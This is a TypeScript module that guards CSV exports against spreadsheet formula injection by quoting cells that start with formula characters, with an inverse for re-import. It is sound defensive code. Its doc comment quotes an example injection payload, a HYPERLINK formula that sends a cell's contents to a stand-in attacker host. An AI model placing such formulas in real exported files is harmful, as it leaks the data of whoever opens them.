/**
 * CSV cells a spreadsheet would run (OWASP "CSV Injection"): Excel, LibreOffice and Google Sheets
 * evaluate a cell that starts with `=`, `+`, `-`, `@`, tab or carriage return as a formula, so a
 * name or title such as `=HYPERLINK("https://evil.example/?"&A1,"klik")` written as it is would
 * run on the computer of whoever opens the file. TLN's one rule for every CSV it writes (the
 * statement export here, the report exports of `@tln/lti-tool`, `@tln/competence`'s framework
 * CSV): such a text cell gets a leading single quote, which spreadsheets show as text. Numbers are
 * data and are not passed here, so a negative number in a numeric column stays a number.
 */

/**
 * What `neutraliseFormula` quotes: a formula start (`= + - @`, tab, CR) behind any number of quotes. A text that
 * already starts with quotes before one (`'=x`) gets one more, so that `restoreFormula` can take
 * exactly one off and every text survives the round trip.
 */
const QUOTED_OR_FORMULA = /^'*[=+\-@\t\r]/u
const QUOTED_FORMULA = /^'+[=+\-@\t\r]/u

/**
 * A text cell as it may be written to CSV: a leading single quote when a spreadsheet would run it
 * as a formula (or when it is such a text already quoted, see `restoreFormula`), else unchanged.
 */
export function neutraliseFormula(text: string): string {
  return QUOTED_OR_FORMULA.test(text) ? `'${text}` : text
}

/**
 * The inverse of `neutraliseFormula`, for CSV that TLN reads back (the framework CSV is exported,
 * edited and imported again): one leading quote comes off a cell whose text behind its quotes
 * starts a formula, so `restoreFormula(neutraliseFormula(t)) === t` for every `t`. A cell the
 * spreadsheet saved without the quote (it may drop it as a text marker) reads as it is.
 */
export function restoreFormula(cell: string): string {
  return QUOTED_FORMULA.test(cell) ? cell.slice(1) : cell
}
